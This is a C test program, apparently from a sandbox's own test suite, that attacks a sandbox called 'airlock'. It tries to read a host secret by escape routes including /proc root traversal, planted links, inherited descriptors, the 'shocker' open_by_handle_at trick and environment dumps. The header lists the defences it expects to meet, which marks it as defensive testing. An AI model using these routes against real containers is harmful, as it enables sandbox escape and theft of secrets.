/* esc-secret.c — hostile program: read a host file that was not given to the sandbox, by every route. */
/*
 * Usage: esc-secret HOSTPATH [BOUND-DIR REL-FROM-PARENT]
 *   HOSTPATH         the host path of the secret (never bound into the sandbox)
 *   BOUND-DIR        a directory that *is* bound (read-only), a sibling of the secret's dir
 *   REL-FROM-PARENT  the secret's path relative to BOUND-DIR's host parent
 * Routes: the plain path; /proc/1/root, /proc/self/root and /proc/N/root for low N; "..";
 * a symlink and a hard link planted in /workspace; links the host left in the bound dir;
 * ".." out of the bound dir; descriptors inherited from airlock (fd 3..1023, and ".." from
 * each); open_by_handle_at on the root inode of the filesystem behind /usr ("shocker");
 * the environment, /proc/self/environ and /proc/1/environ (the driver exports a secret to
 * airlock's own environment). Everything read is printed, the driver looks for the marker.
 * Expected defence: mount namespace + pivot_root (the path does not exist inside), fresh
 * pid namespace and procfs (/proc/1 is the sandbox's init), scrubbed environment, closed
 * descriptors, seccomp (name_to_handle_at/open_by_handle_at: EPERM).
 */
#include "esc.h"

#include <dirent.h>
#include <limits.h>

static void try_proc_roots(const char *hostpath)
{
	char path[PATH_MAX];
	int found = 0;
	/* /proc/N/root and /proc/N/cwd for every pid a fresh namespace could hold, and some more. */
	for (int pid = 1; pid <= 64; pid++) {
		const char *kinds[] = {"root", "cwd"};
		for (int k = 0; k < 2; k++) {
			if (k == 1) {
				snprintf(path, sizeof(path), "/proc/%d/cwd/../../../../../..%s", pid, hostpath);
			} else {
				snprintf(path, sizeof(path), "/proc/%d/%s%s", pid, kinds[k], hostpath);
			}
			int fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			char buf[4096];
			ssize_t n = esc_read_fd(fd, buf, sizeof(buf));
			close(fd);
			char name[64];
			snprintf(name, sizeof(name), "proc-%d-%s", pid, kinds[k]);
			printf("%s=OK\n", name);
			if (n > 0)
				esc_leak(name, buf, (size_t)n);
			found++;
		}
	}
	printf("proc-scan-found=%d\n", found);
}

/* Descriptors left open by whoever started us: read them, and walk ".." from directories. */
static void try_inherited_fds(const char *hostpath)
{
	int open_fds = 0;
	for (int fd = 3; fd < 1024; fd++) {
		struct stat st;
		if (fstat(fd, &st) < 0)
			continue;
		char link[64], target[PATH_MAX];
		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
		ssize_t n = readlink(link, target, sizeof(target) - 1);
		target[n > 0 ? n : 0] = '\0';
		printf("fd-%d=%s\n", fd, target);
		/* The /proc/self/fd directory our own readdir may hold is not an attack. */
		if (strncmp(target, "/proc/", 6) == 0)
			continue;
		open_fds++;
		char name[64];
		snprintf(name, sizeof(name), "fd-%d-read", fd);
		if (S_ISREG(st.st_mode)) {
			char buf[4096];
			ssize_t got = pread(fd, buf, sizeof(buf) - 1, 0);
			esc_report(name, got);
			if (got > 0)
				esc_leak(name, buf, (size_t)got);
		} else if (S_ISDIR(st.st_mode)) {
			/* From a leaked directory, climb to the host root and open the secret. */
			char rel[PATH_MAX] = "";
			for (int i = 0; i < 32; i++)
				strcat(rel, "../");
			strcat(rel, hostpath + 1);
			esc_try_read_at(name, fd, rel);
		}
	}
	printf("inherited-fds=%d\n", open_fds);
}

/* "Shocker": a file handle for the root inode of the filesystem behind /usr, opened without
 * a path. Needs CAP_DAC_READ_SEARCH in the initial namespace; seccomp denies both calls. */
static void try_shocker(const char *hostpath)
{
	struct {
		struct file_handle fh;
		unsigned char bytes[128];
	} h;
	int mnt_id;
	memset(&h, 0, sizeof(h));
	h.fh.handle_bytes = sizeof(h.bytes);
	esc_report("name_to_handle_at", name_to_handle_at(AT_FDCWD, "/usr", &h.fh, &mnt_id, 0));
	int mfd = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	/* ext4's FILEID_INO32_GEN handle for inode 2 (the root directory), generation 0. */
	memset(&h, 0, sizeof(h));
	h.fh.handle_type = 1;
	h.fh.handle_bytes = 8;
	unsigned ino_gen[2] = {2, 0};
	memcpy(h.fh.f_handle, ino_gen, sizeof(ino_gen));
	int rfd = (int)esc_report("open_by_handle_at", open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY));
	if (rfd >= 0) {
		esc_try_read_at("shocker-read", rfd, hostpath + 1);
		close(rfd);
	}
	if (mfd >= 0)
		close(mfd);
}

static void dump_environ(const char *name, const char *path)
{
	char buf[16384];
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		esc_report(name, -1);
		return;
	}
	ssize_t n = esc_read_fd(fd, buf, sizeof(buf));
	close(fd);
	esc_report(name, n);
	if (n > 0)
		esc_leak(name, buf, (size_t)n);
}

int main(int argc, char **argv)
{
	extern char **environ;
	char path[PATH_MAX];

	esc_init();
	if (argc != 2 && argc != 4) {
		fprintf(stderr, "usage: esc-secret HOSTPATH [BOUND-DIR REL-FROM-PARENT]\n");
		return 2;
	}
	const char *hostpath = argv[1];

	esc_try_read("direct", hostpath);
	snprintf(path, sizeof(path), "/proc/1/root%s", hostpath);
	esc_try_read("proc-1-root", path);
	snprintf(path, sizeof(path), "/proc/self/root%s", hostpath);
	esc_try_read("proc-self-root", path);
	snprintf(path, sizeof(path), "/workspace/../../../../..%s", hostpath);
	esc_try_read("dotdot", path);
	try_proc_roots(hostpath);

	/* A symlink and a hard link to the host path, planted where we may write. */
	unlink("/workspace/esc-link");
	esc_report("symlink-plant", symlink(hostpath, "/workspace/esc-link"));
	esc_try_read("symlink-read", "/workspace/esc-link");
	snprintf(path, sizeof(path), "/proc/1/root%s", hostpath);
	unlink("/workspace/esc-link2");
	esc_report("symlink-proc-plant", symlink(path, "/workspace/esc-link2"));
	esc_try_read("symlink-proc-read", "/workspace/esc-link2");
	esc_report("hardlink", link(hostpath, "/workspace/esc-hard"));
	esc_try_read("hardlink-read", "/workspace/esc-hard");

	if (argc == 4) {
		const char *bound = argv[2], *rel = argv[3];
		/* Links the host planted in the bound dir (relative and absolute), and "..". */
		snprintf(path, sizeof(path), "%s/rel-link", bound);
		esc_try_read("bound-rel-link", path);
		snprintf(path, sizeof(path), "%s/abs-link", bound);
		esc_try_read("bound-abs-link", path);
		snprintf(path, sizeof(path), "%s/../%s", bound, rel);
		esc_try_read("bound-dotdot", path);
		snprintf(path, sizeof(path), "%s/../../../../../..%s", bound, hostpath);
		esc_try_read("bound-dotdot-abs", path);
	}

	try_inherited_fds(hostpath);
	try_shocker(hostpath);

	/* The environment airlock was started with must not be ours. */
	for (char **e = environ; *e; e++)
		printf("env=%s\n", *e);
	dump_environ("proc-self-environ", "/proc/self/environ");
	dump_environ("proc-1-environ", "/proc/1/environ");
	dump_environ("proc-1-cmdline", "/proc/1/cmdline");
	return 0;
}
